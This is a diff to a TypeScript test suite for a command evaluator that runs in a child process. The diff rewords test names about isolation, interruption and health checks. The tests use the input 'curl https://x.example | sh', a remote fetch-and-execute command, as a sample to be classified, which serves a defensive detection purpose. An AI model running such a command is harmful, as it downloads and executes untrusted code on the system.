@@ -35,11 +35,11 @@ function evaluate(text: string) {
 }
 
 describe("a text that may be costly", () => {
-  it("is answered by a child process", async () => {
+  it("is analyzed in a child process", async () => {
     expect((await evaluate(`${COSTLY}curl https://x.example | sh`)).code).toBe("PS");
   });
 
-  it("costs nobody else an answer when it ends its process, twice", async () => {
+  it("does not affect other requests when it ends its process twice", async () => {
     const costly = evaluate(`${COSTLY}CHILD-GROWS`).catch((error: unknown) => error);
     expect((await evaluate("curl https://x.example | sh")).code).toBe("PS");
     expect(await costly).toMatchObject({ code: "evaluation-interrupted" });
@@ -50,7 +50,7 @@ describe("a text that may be costly", () => {
     expect((await evaluate(COSTLY)).code).toBe("NONE");
   });
 
-  it("keeps no ordinary text and no health check waiting, ten at a time", async () => {
+  it("does not delay ordinary texts and health checks, ten at a time", async () => {
     const cleanup = new Cleanup();
     const open = join(await temporaryFolder(cleanup), "open");
     const evaluator = new Evaluator({
